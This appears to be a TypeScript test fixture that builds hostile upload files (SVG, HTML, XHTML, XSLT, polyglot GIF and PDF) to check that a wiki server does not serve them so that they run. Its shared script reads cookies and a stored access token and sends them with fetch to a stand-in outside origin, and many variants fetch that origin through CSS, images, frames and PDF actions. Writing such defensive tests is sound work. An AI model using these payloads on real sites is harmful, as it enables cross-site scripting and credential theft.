/** A file that would do harm where it is run. */
export interface HostileFile {
  name: string;
  content: Buffer;
  /** The type a trusting server would send; with it the file must prove hostile. */
  naiveType: string;
  /** Whether opening it directly proves it; some need another document. */
  runsAlone: boolean;
  /** A dialog it may show in an isolated viewer. */
  ownDialog?: string;
}

const svgNamespace = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/**
 * Returns files that run a script or make a request when opened. `strangerOrigin` must never be requested; `marker` is
 * what a script prints.
 */
export function hostileFiles(strangerOrigin: string, marker: string): HostileFile[] {
  const away = (name: string) => `${strangerOrigin}/away?${name}`;
  // Reports in every way that it runs, and steals what it can reach.
  const script = (name: string) =>
    [
      `console.log('${marker} ${name}')`,
      `try { top.harmed = '${name}' } catch {}`,
      `let loot = ''; try { loot = document.domain + document.cookie + localStorage.getItem('wiki.accessToken') } catch {}`,
      `try { fetch('${away(name)}&' + encodeURIComponent(loot), { mode: 'no-cors' }) } catch {}`,
      `try { alert('${name}') } catch {}`,
    ].join('; ');
  const escaped = (name: string) => script(name).replaceAll('&', '&amp;');
  const svg = (name: string, inside: string, attributes = '') =>
    file(`${name}.svg`, `<svg ${svgNamespace} width="100" height="100" ${attributes}>${inside}</svg>`, 'image/svg+xml');
  const html = (name: string) => `<!doctype html><title>x</title><script>${script(name)}</script>`;
  const xhtml = (name: string) =>
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script><![CDATA[${script(name)}]]></script></body></html>`;

  return [
    svg('script', `<script><![CDATA[${script('svg script')}]]></script>`),
    svg('onload', '<rect width="9" height="9"/>', `onload="${escaped('svg onload')}"`),
    svg('script-href', `<script href="${away('script-href')}"/>`),
    svg('foreign-html', foreignObject(`<script><![CDATA[${script('foreign')}]]></script>`)),
    svg('foreign-frame', foreignObject(`<iframe src="${away('frame')}"></iframe><img src="${away('img')}"/>`)),
    svg(
      'animated',
      `<a><animate attributeName="href" values="javascript:1"/></a><image href="x" onerror="${escaped('onerror')}"/>`,
    ),
    svg('image', `<image href="${away('image')}" width="9" height="9"/>`),
    svg('use', `<use href="${away('use')}#a"/><use xlink:href="${away('xlink')}#a"/>`),
    svg('import', `<style>@import url("${away('import')}");</style><rect width="9" height="9"/>`),
    svg(
      'fill',
      `<style>rect { mask: url("${away('mask')}#a"); fill: url("${away('fill')}#a") }</style><rect width="9" height="9"/>`,
    ),
    svg('background', `<style>svg { background: url("${away('background')}") }</style>`),
    svg(
      'font',
      `<style>@font-face { font-family: f; src: url("${away('font')}") } text { font-family: f }</style><text y="9">x</text>`,
    ),
    svg(
      'filter',
      `<filter id="f"><feImage href="${away('feimage')}"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    ),
    file(
      'stylesheet.svg',
      `<?xml-stylesheet href="${away('stylesheet')}" type="text/css"?><svg ${svgNamespace} width="9" height="9"/>`,
      'image/svg+xml',
    ),
    file(
      'xhtml-inside.svg',
      `<svg ${svgNamespace} width="9" height="9"><h:script xmlns:h="http://www.w3.org/1999/xhtml">${escaped('prefixed')}</h:script></svg>`,
      'image/svg+xml',
    ),
    file('really-xhtml.svg', xhtml('really-xhtml'), 'image/svg+xml'),
    file('page.html', html('html'), 'text/html'),
    file('refresh.html', `<!doctype html><meta http-equiv="refresh" content="0;url=${away('refresh')}">`, 'text/html'),
    file('page.xhtml', xhtml('xhtml'), 'application/xhtml+xml'),
    file('page.xml', xhtml('xml'), 'text/xml'),
    file('transformed.xml', transformed(script('xslt')), 'text/xml'),
    file('html-called.png', html('called png'), 'text/html'),
    file('html-called.txt', html('called txt'), 'text/html'),
    file('html-called.pdf', html('called pdf'), 'text/html'),
    file('svg-called.png', `<svg ${svgNamespace}><script>${escaped('svg called png')}</script></svg>`, 'image/svg+xml'),
    file('html-before.pdf', `${html('html before pdf')}\n%PDF-1.4\n%%EOF`, 'text/html'),
    file('gif-and-page.gif', Buffer.concat([gif(), Buffer.from(html('gif and page'))]), 'text/html'),
    file('markdown.md', `# Notes\n\n${html('markdown')}`, 'text/html'),
    file('no-ending', html('no ending'), 'text/html'),
    { ...file('script.js', script('js'), 'text/javascript'), runsAlone: false },
    { ...file('script.txt', script('js called txt'), 'text/javascript'), runsAlone: false },
    { ...file('script.csv', script('js called csv'), 'text/javascript'), runsAlone: false },
    {
      ...file('gif-and-script.gif', `GIF89a/*${'\0'.repeat(9)}*/=1; ${script('gif and js')}`, 'text/javascript'),
      runsAlone: false,
    },
    {
      ...file('document.pdf', pdf(away('pdf'), marker), 'application/pdf'),
      runsAlone: false,
      ownDialog: 'pdf',
    },
  ];
}

function file(name: string, content: string | Buffer, naiveType: string): HostileFile {
  return { name, content: Buffer.from(content), naiveType, runsAlone: true };
}

function foreignObject(inside: string): string {
  const body = `<body xmlns="http://www.w3.org/1999/xhtml">${inside}</body>`;
  return `<foreignObject width="100" height="100">${body}</foreignObject>`;
}

/** Its own style sheet, which produces a page with a script. */
function transformed(script: string): string {
  return `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml;base64,${Buffer.from(
    `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>${script.replaceAll('&', '&amp;')}</script></body></html></xsl:template></xsl:stylesheet>`,
  ).toString('base64')}"?><a/>`;
}

/** One white pixel. */
function gif(): Buffer {
  return Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');
}

/** Returns an empty page that runs a script and sends a form when opened. */
function pdf(address: string, marker: string): Buffer {
  const script = `console.println('${marker} pdf'); app.alert('pdf'); this.submitForm('${address}'); app.launchURL('${address}');`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA << /O << /S /URI /URI (${address}) >> >> >>`,
    `<< /S /JavaScript /JS (${script.replaceAll(/[()\\]/g, '\\$&')}) >>`,
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const end = `trailer << /Root 1 0 R /Size ${size} >>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(`${text}xref\n0 ${size}\n0000000000 65535 f \n${entries}${end}`, 'latin1');
}
